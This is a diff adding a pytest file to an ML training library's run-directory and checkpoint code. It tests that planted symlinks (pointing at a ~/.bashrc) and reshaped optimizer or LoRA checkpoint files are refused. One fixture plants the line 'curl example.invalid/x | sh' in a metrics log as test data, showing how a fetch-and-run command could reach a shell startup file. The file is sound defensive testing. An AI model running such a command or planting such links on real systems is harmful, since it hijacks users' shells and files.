@@ -1,0 +1,195 @@
+"""Files a run reads back, attacked (after test_read_back.py): a run directory handed over as "resume
+from mine", or a results folder others write to, holding links where rft writes its own files;
+and a resealed checkpoint whose trainer state or LoRA adapter is of another shape than the model's."""
+
+import os
+
+import pytest
+import torch
+from test_lora import LORA
+from test_trainer import experiences, make_trainer
+
+from rft import manifest
+from rft.errors import RunError
+from rft.reporting import monitor
+from rft.runtime import rundir
+from rft.trainer.state import CheckpointFileError
+
+BASHRC = "export PATH=$HOME/bin:$PATH\n"
+
+
+@pytest.fixture
+def victim(tmp_path):
+    """A file outside the run directory that a planted link points to (a ~/.bashrc)."""
+    path = tmp_path / "home" / ".bashrc"
+    path.parent.mkdir()
+    path.write_text(BASHRC)
+    return path
+
+
+def test_a_write_through_a_planted_tmp_link_replaces_the_link_and_spares_its_target(tmp_path, victim):
+    """Every file rft writes whole goes through <file>.tmp: open() followed a link there and
+    truncated the file it points to, then filled it with the config, report or log."""
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "config.yaml.tmp").symlink_to(victim)
+    manifest.write_atomic(run / "config.yaml", "seed: 1\n")
+    assert victim.read_text() == BASHRC
+    assert (run / "config.yaml").read_text() == "seed: 1\n" and not (run / "config.yaml").is_symlink()
+    assert not (run / "config.yaml.tmp").exists()
+
+
+def test_a_resumed_metrics_log_is_never_written_into_a_linked_file(tmp_path, victim):
+    """A resume rewrites metrics.jsonl through metrics.jsonl.tmp keeping the lines that are not records
+    as they are: a planted link there put those lines, a shell command among them, into ~/.bashrc,
+    and the run's appends followed (the rename moved the link into metrics.jsonl's place)."""
+    path = tmp_path / "metrics.jsonl"
+    path.write_text('{"step": 1, "x": 1}\ncurl example.invalid/x | sh\n{"step": 2, "x": 2}\n{"step": 3, "x": 3}\n')
+    (tmp_path / "metrics.jsonl.tmp").symlink_to(victim)
+    f, steps = monitor._reopen(path, 2)
+    f.write('{"step": 3, "x": 4}\n')
+    f.close()
+    assert steps == {1, 2}
+    assert victim.read_text() == BASHRC
+    # the damaged line stays in the log (rft never deletes one), and only there
+    assert path.read_text() == '{"step": 1, "x": 1}\ncurl example.invalid/x | sh\n{"step": 2, "x": 2}\n{"step": 3, "x": 4}\n'
+
+
+@pytest.mark.parametrize("where", [".run.lock", "grpo/run.log", "grpo/metrics.jsonl", "grpo/config_changes.log",
+                                   ".hydra/config.yaml.tmp", "log/trainer.log", "nowhere"])
+def test_a_run_directory_with_a_link_to_a_file_is_refused_before_anything_is_written(tmp_path, victim, where):
+    """run_lock is the first thing a run does in its directory: .run.lock itself was opened through
+    a link and truncated (its target's content replaced by "pid N on host"), and the logs rft and
+    Hydra append to (run.log, log/<actor>.log, config_changes.log) followed one. A link to nothing
+    is refused too: appending through it creates its target."""
+    run = tmp_path / "run"
+    (run / "grpo" / "checkpoints").mkdir(parents=True)
+    link = run / (where if where != "nowhere" else "grpo/batches.jsonl")
+    link.parent.mkdir(parents=True, exist_ok=True)
+    target = victim if where != "nowhere" else tmp_path / "home" / ".profile"
+    link.symlink_to(target)
+    with pytest.raises(RunError) as e:
+        with rundir.run_lock(run):
+            pass
+    assert str(e.value) == (
+        f"{link} is a link (to {target}): rft writes its own files in the run directory {run} and never makes a "
+        f"link there, so a run would write through it into the file it points to. It was put there by hand or came "
+        f"with a copy of the run. Remove the link (`find {run} -type l` lists them; a link to a folder may stay), or "
+        f"give this run another name (name=...).")
+    assert victim.read_text() == BASHRC and not (tmp_path / "home" / ".profile").exists()
+
+
+def test_links_to_folders_and_inside_sealed_checkpoints_are_not_refused(tmp_path):
+    """The user's own: checkpoints on a scratch disk through a link to a folder. A link inside a
+    checkpoint is its manifest's to refuse (the resume sets that checkpoint aside,
+    test_checkpoints_manifest), and a folder moved aside (previous_*) is not written again."""
+    run, scratch = tmp_path / "run", tmp_path / "scratch"
+    (run / "grpo").mkdir(parents=True)
+    scratch.mkdir()
+    (run / "grpo" / "checkpoints").symlink_to(scratch, target_is_directory=True)
+    (run / "sft" / "checkpoints" / "step_2" / "hf").mkdir(parents=True)
+    (run / "sft" / "checkpoints" / "step_2" / "hf" / "config.json").symlink_to(tmp_path / "x.json")
+    (run / "previous_20260101_000000").mkdir()
+    (run / "previous_20260101_000000" / "run.log").symlink_to(tmp_path / "old.log")
+    assert rundir.planted_links(run) == []
+    with rundir.run_lock(run):
+        pass
+    assert (run / rundir.RUN_LOCK).read_text().startswith(f"pid {os.getpid()} on ")
+
+
+def test_a_planted_move_aside_folder_that_is_a_link_takes_no_outputs(tmp_path):
+    """finish_move_aside finishes a move a kill cut short by moving every output into
+    previous_<time>.tmp/: a link of that name to a folder elsewhere (a results folder others
+    write to: theirs) had the run's checkpoints and logs moved out to it."""
+    run, elsewhere = tmp_path / "run", tmp_path / "theirs"
+    (run / "grpo").mkdir(parents=True)
+    elsewhere.mkdir()
+    (run / "grpo" / "metrics.jsonl").write_text('{"step": 1}\n')
+    (run / "previous_20260101_000000.tmp").symlink_to(elsewhere, target_is_directory=True)
+    assert rundir.finish_move_aside(run) is None
+    assert (run / "grpo" / "metrics.jsonl").read_text() == '{"step": 1}\n'
+    assert list(elsewhere.iterdir()) == []
+
+
+# ---------------------------------------------------------------- a resealed trainer state
+
+@pytest.fixture(scope="module")
+def saved(tmp_path_factory):
+    """A trainer after one step, saved: (the trainer, its checkpoint directory)."""
+    t = make_trainer(128)
+    t.train_step(experiences())
+    d = tmp_path_factory.mktemp("ckpt")
+    t.save(str(d))
+    return t, d
+
+
+def edited(d, tmp_path, change):
+    """A copy of checkpoint `d`'s trainer_state.pt changed by `change(state)` (hf/ linked as it is)."""
+    (tmp_path / "hf").symlink_to(d / "hf", target_is_directory=True)
+    state = torch.load(d / "trainer_state.pt", weights_only=True)
+    change(state)
+    torch.save(state, tmp_path / "trainer_state.pt")
+    return tmp_path
+
+
+def first_moment(state):
+    """Adam's exp_avg of the first parameter, its shape (and so its bytes) tripled: a [3, *shape]."""
+    m = state["optimizer"]["state"][0]
+    m["exp_avg"] = torch.zeros(3, *m["exp_avg"].shape)
+
+
+@pytest.mark.parametrize("change, why", [
+    (first_moment, "its optimizer's exp_avg of parameter 0 has shape [3, 103, 128], the parameter [103, 128]"),
+    (lambda s: s["scheduler"].update(optimizer={}),
+     "its scheduler part holds ['optimizer'], which is not a state of the trainer's scheduler"),
+    (lambda s: s["optimizer"]["param_groups"][0]["params"].pop(),
+     "its optimizer holds 25 parameters, this model's 26"),
+    (lambda s: s.update(version="7"), "its version '7' is not a step count"),
+])
+def test_a_trainer_state_of_another_shape_is_refused_before_anything_loads(saved, tmp_path, change, why):
+    """torch's Optimizer.load_state_dict checks only how many parameters each group holds: moments of
+    another shape loaded without a word and the first step failed in Adam with a bare traceback
+    ("output with shape [103, 128] doesn't match the broadcast shape [3, 103, 128]"); LambdaLR's puts
+    every key of the scheduler's part into its own attributes, its optimizer too. A
+    CheckpointFileError names the file: the runner sets the checkpoint aside as damaged
+    (rft.runtime.saving) and the one before is loaded."""
+    t, d = saved
+    ckpt = edited(d, tmp_path, change)
+    fresh = make_trainer(128)
+    before = fresh.fingerprint()
+    with pytest.raises(CheckpointFileError) as e:
+        fresh.load(str(ckpt))
+    assert str(e.value) == f"{ckpt / 'trainer_state.pt'} does not load ({why}: the trainer never saves one so)"
+    assert fresh.fingerprint() == before and fresh.version == 0
+
+
+def test_the_trainer_state_as_saved_still_loads(saved, tmp_path):
+    t, d = saved
+    fresh = make_trainer(128)
+    fresh.load(str(edited(d, tmp_path, lambda s: None)))
+    assert fresh.fingerprint() == t.fingerprint() and fresh.version == 1
+
+
+@pytest.mark.parametrize("drop", [1, 28])  # one tensor, every one (an adapter file saved by another PEFT naming)
+def test_a_lora_adapter_missing_tensors_is_refused_not_resumed_half_fresh(tmp_path, drop):
+    """set_peft_model_state_dict loads the tensors an adapter file has and says nothing of the ones
+    it lacks: those layers resumed as freshly made (B zero) under the saved optimizer's moments."""
+    from safetensors.torch import load_file, save_file
+
+    t = make_trainer(128, LORA)
+    t.train_step(experiences())
+    t.save(str(tmp_path), with_hf=False)
+    path = tmp_path / "adapter" / "adapter_model.safetensors"
+    tensors = load_file(path)
+    assert len(tensors) == 28  # 2 layers x 7 linear layers x (A, B)
+    names = sorted(tensors)
+    save_file({k: v for k, v in tensors.items() if k not in names[:drop]}, path)
+    fresh = make_trainer(128, LORA)
+    with pytest.raises(CheckpointFileError) as e:
+        fresh.load(str(tmp_path))
+    # named in the model's order: the first layer's q_proj, k_proj, v_proj
+    first = [f"base_model.model.model.layers.0.self_attn.{m}.lora_{ab}.weight"
+             for m, ab in (("q_proj", "A"), ("q_proj", "B"), ("k_proj", "A"), ("k_proj", "B"), ("v_proj", "A"))]
+    listed = f"{first} and 23 more" if drop == 28 else f"{names[:1]}"  # 28 = 5 named + 23
+    assert str(e.value) == (f"{path} does not load (RuntimeError: the adapter does not match the model's LoRA "
+                            f"config: missing {listed})")
